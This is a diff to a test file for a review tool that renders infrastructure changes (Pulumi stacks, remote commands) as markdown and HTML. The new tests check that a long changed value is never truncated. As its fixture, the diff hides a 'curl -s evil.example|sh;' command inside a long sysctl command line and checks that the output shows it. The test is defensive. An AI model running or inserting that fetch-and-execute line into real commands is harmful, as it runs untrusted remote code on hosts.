@@ -1,4 +1,5 @@
 import { describe, expect, test } from "vitest";
+import { htmlOf } from "../../review/page/html.ts";
 import { markdownOf } from "../../review/page/markdown.ts";
 import { outlineOf } from "../../review/page/outline.ts";
 import { sideBySide } from "../../review/page/side-by-side.ts";
@@ -95,18 +96,67 @@ describe("two values that only begin alike", () => {
       [`sha512-${"a".repeat(86)}==`, `sha512-${"b".repeat(86)}==`],
       ["sha512-aaaaaaaaaaaa…", "sha512-bbbbbbbbbbbb…"],
     ],
-    [
-      "long ones without their middle",
-      [`${"x".repeat(300)}1`, undefined],
-      [`${"x".repeat(100)}…${"x".repeat(59)}1`, undefined],
-    ],
+    ["a long one alone whole", [`${"x".repeat(300)}1`, undefined], [`${"x".repeat(300)}1`, undefined]],
     [
       "long ones that differ in the middle there",
       [`${"x".repeat(150)}1${"x".repeat(150)}`, `${"x".repeat(150)}2${"x".repeat(150)}`],
-      [`…${"x".repeat(20)}1${"x".repeat(59)}…`, `…${"x".repeat(20)}2${"x".repeat(59)}…`],
+      [`…${"x".repeat(20)}1${"x".repeat(20)}…`, `…${"x".repeat(20)}2${"x".repeat(20)}…`],
+    ],
+    [
+      "long ones that differ in several places from the first to the last",
+      [`${"x".repeat(150)}1${"y".repeat(200)}1`, `${"x".repeat(150)}2${"y".repeat(200)}2`],
+      [`…${"x".repeat(20)}1${"y".repeat(200)}1`, `…${"x".repeat(20)}2${"y".repeat(200)}2`],
+    ],
+    [
+      "a long one and one that it begins and ends with",
+      [`${"x".repeat(100)}${"x".repeat(100)}`, `${"x".repeat(100)}evil${"x".repeat(100)}`],
+      [`…${"x".repeat(20)}${"x".repeat(20)}…`, `…${"x".repeat(20)}evil${"x".repeat(20)}…`],
     ],
   ] as const)("stand beside each other, %s", (_, [before, after], shown) => {
     expect(sideBySide(before, after)).toEqual(shown);
+  });
+});
+
+describe("all of a long value that has changed is shown", () => {
+  const settings = (numbers: readonly number[], more = "") =>
+    numbers.map((value, at) => `sysctl -w net.core.x${at}=${value};${at === 12 ? more : ""}`).join(" ");
+  const plain = Array.from({ length: 20 }, () => 1);
+  const evil = "curl -s evil.example|sh;";
+  const command = (create: string): Planned => ({ type: "command:remote:Command", name: "one", after: { create } });
+  const texts = (report: Parameters<typeof outlineOf>[0]) => [markdownOf, htmlOf].map((of) => of(outlineOf(report)));
+  const byPreview = (...planned: Planned[]) =>
+    reportOfPreview({ stack: "prod", preview: readPreview(previewJson(planned), "it"), compared: "" });
+
+  test.each([
+    ["behind another change", plain.with(4, 2)],
+    ["before another change", plain.with(19, 2)],
+    ["between two", plain.with(0, 2).with(19, 2)],
+    ["alone", plain],
+  ])("%s", (_, numbers) => {
+    const [was, is] = [settings(plain), settings(numbers, evil)];
+    const stack = (create: string) => ({
+      "stacks/Pulumi.prod.yaml": stackFile(
+        ours,
+        `  nemoclaw:siteCommands: [{ name: a, create: "${create}" }]\n`,
+      ).replace(
+        "kind: local",
+        "kind: existing, address: a.example.com, user: me, agentSocket: /run/a, hostKeys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGVCYWRFeGFtcGxlS2V5T2ZOb01hY2hpbmVBdEFsbDAw]",
+      ),
+    });
+    for (const report of [
+      compared(stack(was), stack(is)),
+      byPreview({ ...command(is), before: { create: was } }),
+      byPreview(command(is)),
+    ])
+      for (const text of texts(report))
+        expect(text.replaceAll(/&#(\d+);/g, (_, code) => String.fromCharCode(code))).toContain(evil);
+  });
+
+  test("in the page where it is too long for a comment, which says so", () => {
+    const [comment = "", page = ""] = texts(byPreview(command(`${"a ".repeat(5000)}evil ${"a ".repeat(5000)}`)));
+    expect(page).toContain("evil");
+    expect(comment).toMatch(/… and \d+ characters more, in review.html/);
+    expect(comment.length).toBeLessThan(10_000);
   });
 });
 
